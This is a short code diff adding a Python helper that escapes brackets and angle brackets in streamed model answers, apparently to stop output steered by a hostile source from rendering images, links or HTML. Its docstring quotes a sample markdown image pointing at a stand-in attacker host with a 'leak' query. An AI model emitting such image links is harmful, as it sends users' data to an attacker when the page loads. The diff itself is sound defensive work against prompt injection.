@@ -23,6 +23,17 @@ def escape_markdown(text: object) -> str:
     return MARKDOWN_SPECIAL.sub(r"\\\1", " ".join(str(text or "").split()))
 
 
+ANSWER_SPECIAL = re.compile(r"([\[\]<>])")
+
+
+def answer_markdown(text: str) -> str:
+    """An answer (model output, possibly steered by a hostile source) as markdown that keeps its emphasis and
+    lists but cannot draw an image, a link or HTML: brackets and angle brackets are escaped, so "[1]" still
+    reads "[1]" while ``![x](https://evil.example/?leak)`` stays text and loads nothing. Per character, so it
+    can be applied to each streamed delta."""
+    return ANSWER_SPECIAL.sub(r"\\\1", text)
+
+
 def short_ref(ref: str) -> str:
     ref = re.sub(r"\s*\(\d+/\d+\)\s*$", "", ref or "")
     return re.sub(r"^Article\s+", "Art. ", ref.split(" › ")[-1])[:40]
